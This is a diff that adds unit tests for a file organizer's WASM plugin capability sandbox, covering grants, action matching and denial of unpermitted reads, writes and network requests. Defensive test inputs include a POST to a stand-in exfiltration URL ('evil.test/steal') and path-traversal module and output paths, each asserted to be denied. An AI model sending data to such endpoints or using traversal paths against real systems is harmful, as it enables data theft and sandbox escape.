@@ -0,0 +1,101 @@
+"""
+Unit tests for WASM plugin actions and their capability sandbox.
+"""
+
+import json
+import sys
+from pathlib import Path
+from unittest.mock import Mock, MagicMock, patch
+
+sys.path.insert(0, str(Path(__file__).parent.parent.parent))
+
+from src.core.plugins import PluginHost, PluginManager, DENIED
+from src.core.plans import OrganizePlanner
+
+
+def _plugin(root, name, capabilities, match, module='p.wasm'):
+    folder = root / name
+    folder.mkdir(parents=True)
+    (folder / 'p.wasm').write_bytes(b'\x00asm\x01\x00\x00\x00')
+    (folder / 'plugin.json').write_text(json.dumps({
+        'name': name, 'version': '1.0.0', 'module': module, 'capabilities': capabilities,
+        'actions': [{'name': 'run', 'description': 'Do it', 'match': match}]}))
+
+
+def _manager(tmp_path, granted=None):
+    config = Mock()
+    config.plugin_settings = {'dir': str(tmp_path / 'plugins'), 'granted': granted or {}}
+    return PluginManager(config)
+
+
+def test_plugins_are_discovered_granted_and_matched(tmp_path):
+    """Actions run only once granted, and only for the files they declare."""
+    plugins = tmp_path / 'plugins'
+    _plugin(plugins, 'books', ['read', 'net:api.books.test'], {'categories': ['Finance'], 'extensions': ['.pdf']})
+    _plugin(plugins, 'broken', ['read', 'shell'], {'extensions': ['.txt']})
+    _plugin(plugins, 'missing', [], {'extensions': ['.txt']}, module='../outside.wasm')
+
+    manager = _manager(tmp_path)
+    found = {p['name']: p for p in manager.discover()}
+    assert not found['books']['error'] and not found['books']['granted']
+    assert 'Unknown capability' in found['broken']['error'] and 'not found' in found['missing']['error']
+    assert manager.matching_actions('/x/invoice.pdf', {'category': 'Finance'}) == []
+    assert 'has not been granted' in manager.run_action('books', 'run', '/x/invoice.pdf')['message']
+
+    result = manager.set_grant('books', True)
+    assert result['success'] and result['capabilities'] == ['read', 'net:api.books.test']
+    manager.config.update.assert_called_with('plugins', {'dir': str(plugins), 'granted': {
+        'books': ['read', 'net:api.books.test']}})
+    assert not manager.set_grant('broken', True)['success']
+    assert manager.matching_actions('/x/invoice.pdf', {'category': 'Finance'}) == ['books:run']
+    assert manager.matching_actions('/x/invoice.pdf', {'category': 'Documents'}) == []
+    assert manager.matching_actions('/x/invoice.PDF', {'category': 'finance'}) == ['books:run']
+
+    with patch('src.core.plugins.HAS_WASMTIME', False):
+        assert 'wasmtime' in manager.run_action('books', 'run', '/x/invoice.pdf')['message']
+    assert manager.set_grant('books', False)['success'] and not manager.get('books')['granted']
+
+
+def test_host_functions_enforce_capabilities_and_apply_runs_actions(tmp_path):
+    """Reads, writes and requests need their grants; applying a plan runs matching actions."""
+    photo = tmp_path / 'out' / 'IMG_1.heic'
+    photo.parent.mkdir()
+    photo.write_bytes(b'heic-bytes')
+    (tmp_path / 'out' / 'taken.jpg').write_bytes(b'existing')
+
+    locked = PluginHost('conv', 'run', str(photo), {}, [])
+    assert locked.read(0, 4) is None and locked.write_output('IMG_1.jpg', b'x') == DENIED
+    host = PluginHost('conv', 'run', str(photo), {'category': 'Pictures'}, ['read', 'write', 'net:api.ok.test'])
+    assert json.loads(host.input())['extension'] == '.heic'
+    assert host.read(5, 100) == b'bytes'
+    assert host.write_output('IMG_1.jpg', b'jp') == 0 and host.write_output('IMG_1.jpg', b'eg') == 0
+    assert (tmp_path / 'out' / 'IMG_1.jpg').read_bytes() == b'jpeg'
+    assert host.write_output('taken.jpg', b'x') == DENIED
+    assert host.write_output('IMG_1.heic', b'x') == DENIED
+    assert host.write_output('..', b'x') == DENIED
+    assert host.outputs == [str(tmp_path / 'out' / 'IMG_1.jpg')]
+    assert host.http_post('https://evil.test/steal', b'x') == DENIED
+    assert host.http_post('http://api.ok.test/upload', b'x') == DENIED
+
+    _plugin(tmp_path / 'plugins', 'conv', ['read', 'write'], {'extensions': ['.heic']})
+    manager = _manager(tmp_path, granted={'conv': ['read', 'write']})
+
+    def fake_execute(module_path, action, run_host):
+        run_host.write_output('IMG_1.jpg2', run_host.read(0, 4))
+        run_host.set_result(b'Converted')
+        return 0
+
+    config = Mock()
+    config.get_folder_policy.return_value = None
+    actions = MagicMock()
+    actions.dry_run = False
+    actions.execute.return_value = {'success': True, 'new_path': str(photo), 'message': 'moved'}
+    planner = OrganizePlanner(config, Mock(), actions)
+    planner.plugins = manager
+    plan = {'root': str(tmp_path), 'items': [{'file': str(photo), 'classification': {'category': 'Pictures'},
+                                              'size': photo.stat().st_size, 'modified': photo.stat().st_mtime}]}
+    with patch('src.core.plugins.HAS_WASMTIME', True), patch.object(manager, '_execute', side_effect=fake_execute):
+        result = planner.apply_plan(plan)
+    ran = result['applied'][0]['plugin_actions']
+    assert ran == [{'success': True, 'message': 'Converted', 'action': 'conv:run',
+                    'outputs': [str(tmp_path / 'out' / 'IMG_1.jpg2')]}]